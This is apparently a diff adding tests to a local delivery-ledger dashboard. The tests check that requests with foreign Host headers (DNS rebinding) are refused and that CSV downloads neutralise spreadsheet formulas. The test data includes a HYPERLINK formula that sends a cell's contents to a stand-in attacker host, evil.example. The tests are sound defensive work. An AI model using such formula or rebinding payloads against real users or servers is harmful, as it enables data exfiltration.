@@ -14,6 +14,7 @@ import subprocess
 import sys
 import time
 import urllib.error
+import urllib.parse
 import urllib.request
 from collections.abc import Iterator
 from datetime import UTC, datetime
@@ -420,6 +421,89 @@ async def test_password_protects_every_page(ledger_path: Path, monkeypatch: pyte
     assert r.status_code == 200 and REJECTED in r.text
     meta = await ds.client.get("/-/metadata.json", cookies=good.cookies)
     assert password_hash not in meta.text  # shown as {"$env": ...}, not the hash
+
+
+async def test_answers_only_to_the_host_names_it_serves(ledger_path: Path) -> None:
+    """DNS rebinding (issue 12): a page on evil.example that makes its name resolve to 127.0.0.1
+    reaches the dashboard with ``Host: evil.example``; it gets a 400 and no data."""
+    ds = create(ledger_path, timezone=TZ, host="127.0.0.1", port=8001)
+    url = f"/{DATABASE}/deliveries.csv?_stream=on"
+    for good in ("localhost", "127.0.0.1:8001", "localhost:8001", "[::1]:8001", "LocalHost:8001"):
+        r = await ds.client.get(url, headers={"host": good})
+        assert r.status_code == 200 and "bob@example.org" in r.text, good
+    for bad in (
+        "evil.example",
+        "evil.example:8001",
+        "127.0.0.1.evil.example:8001",
+        "localhost.evil.example",
+        "localhost:9999",  # another port: another server's origin
+        "10.0.0.1:8001",
+    ):
+        r = await ds.client.get(url, headers={"host": bad})
+        assert r.status_code in (400, 403), bad
+        assert "bob@example.org" not in r.text and "Host" in r.text and len(r.text) < 300, (bad, r.text)
+    # --host dashboard.example.org (with a password): that name, and loopback for a local proxy
+    ds = create(ledger_path, timezone=TZ, host="dashboard.example.org", port=8001)
+    assert (await ds.client.get(url, headers={"host": "dashboard.example.org:8001"})).status_code == 200
+    assert (await ds.client.get(url, headers={"host": "evil.example:8001"})).status_code in (400, 403)
+
+
+def test_a_raw_request_with_another_host_is_refused(dashboard: str) -> None:
+    """The served dashboard, as a browser after DNS rebinding would reach it."""
+    import socket
+
+    port = int(dashboard.rsplit(":", 1)[1])
+
+    def get(host: str) -> str:
+        with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
+            sock.sendall(
+                f"GET /{DATABASE}/deliveries.csv HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode()
+            )
+            data = b""
+            while chunk := sock.recv(65536):
+                data += chunk
+        return data.decode("utf-8", "replace")
+
+    refused = get("evil.example")
+    assert refused.split(" ", 2)[1] in ("400", "403") and "bob@example.org" not in refused, refused
+    assert get(f"evil.example:{port}").split(" ", 2)[1] in ("400", "403")
+    assert get(f"127.0.0.1:{port}").split(" ", 2)[1] == "200"
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1")
+
+
+async def test_csv_downloads_cannot_run_formulas(ledger_path: Path, tmp_path: Path) -> None:
+    """A name or a server reply that starts with = + - @ tab or CR is a formula to a spreadsheet
+    (OWASP CSV injection): every CSV download writes it with a leading ' instead."""
+    db = tmp_path / "formulas.db"
+    shutil.copy(ledger_path, db)
+    now = datetime(2030, 3, 9, 8, tzinfo=UTC)
+    with Ledger(db) as ledger:
+        items = [
+            Decided("later", "launch", f"f{i}@example.org", text, now, Status.FAILED, text)
+            for i, text in enumerate(FORMULAS)
+        ]
+        ledger.record_decided("test", items, now)
+    ds = create(db, timezone=TZ, allow_sql=True)
+    sql = "select email, name, reason from deliveries where step = 'later' order by email"
+    for url in (
+        f"/{DATABASE}/deliveries.csv?_stream=on",
+        f"/{DATABASE}/deliveries.csv?_stream=on&_dl=1",
+        f"/{DATABASE}.csv?" + urllib.parse.urlencode({"sql": sql}),
+    ):
+        r = await ds.client.get(url)
+        assert r.status_code == 200, url
+        rows = list(csv.reader(io.StringIO(r.text, newline="")))
+        cells = [c for row in rows for c in row]
+        assert [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))] == [], url
+        for text in FORMULAS:
+            assert cells.count("'" + text) == 2, (url, text)  # the name and the reason
+        if "sql=" not in url:  # the other rows are there, as Datasette wrote them
+            assert "bob@example.org" in cells and REJECTED in cells
+    # The HTML and JSON pages show the values as they are.
+    r = await ds.client.get(f"/{DATABASE}.json?_shape=array&" + urllib.parse.urlencode({"sql": sql}))
+    assert [row["name"] for row in r.json()] == list(FORMULAS)
 
 
 def test_other_hosts_need_a_password(ledger_path: Path) -> None:
